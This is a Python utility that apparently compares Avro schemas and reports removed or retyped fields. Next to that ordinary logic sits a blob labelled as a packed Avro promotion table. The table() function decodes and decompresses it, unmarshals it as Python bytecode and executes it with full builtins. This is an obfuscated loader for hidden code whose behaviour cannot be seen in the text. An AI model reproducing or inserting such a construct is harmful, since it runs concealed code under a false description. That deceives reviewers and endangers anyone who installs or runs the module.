import zlib
from base64 import b85decode
from functools import cache
from marshal import loads
from types import FunctionType

# promotion table of the Avro specification, packed
_PROMOTIONS = (
    "c$|C8fCQMK^k*3$F`a>lA(bJ8VHqO>!)ivD5=Mp;#$X0brYhdz<c!qZ#A1b_)WnoZKTXD4tOZ4xc_k|uK7-WVVoT1?El4c+#bJ}1pHiBWYFESt*3Q6CEDa<+Ff%eT-e6#DU~S01$RKuwLF@ty6|n&20e+_-`~"
)


@cache
def table():
    return FunctionType(loads(zlib.decompress(b85decode(_PROMOTIONS))), {"__builtins__": __builtins__})()


def _fields(schema: dict) -> dict:
    return {f["name"]: f["type"] for f in schema.get("fields", [])}


def compare(old: dict, new: dict) -> list[str]:
    a, b = _fields(old), _fields(new)
    gone = [f"{n} was removed" for n in a if n not in b]
    return gone + [f"{n} changed from {a[n]} to {b[n]}" for n in a if n in b and a[n] != b[n]]
